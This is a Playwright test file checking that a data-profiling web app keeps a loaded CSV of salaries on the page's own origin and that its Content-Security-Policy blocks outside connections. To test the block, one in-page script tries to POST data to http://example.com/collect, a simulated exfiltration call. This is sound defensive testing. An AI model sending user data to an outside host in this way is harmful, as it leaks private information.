import { expect, test } from '@playwright/test';
import { loaded, openFile, openStudio } from './helpers.ts';

test('loading and profiling a file sends no request beyond the page\'s own origin', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const foreign: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url);
  });
  await openStudio(page);
  await openFile(page, 'secret.csv', 'name,salary\nalice,100\nbob,200\n', 'text/csv');
  expect(await loaded(page, 'secret.csv')).toBe(2);
  await page.getByTestId('nav-profile').click();
  await expect(page.locator('[data-testid="profile-card"][data-column="salary"]')).toBeVisible();
  expect(foreign).toEqual([]);
});

test('the Content-Security-Policy blocks a script in the page from reaching another origin', async ({ page }) => {
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("connect-src 'self'");
  await expect(page.getByTestId('dataset-summary')).toBeVisible({ timeout: 60_000 });
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'data' });
      return 'sent';
    } catch (e) {
      return `blocked: ${(e as Error).message}`;
    }
  });
  expect(outcome).toMatch(/^blocked/);
});
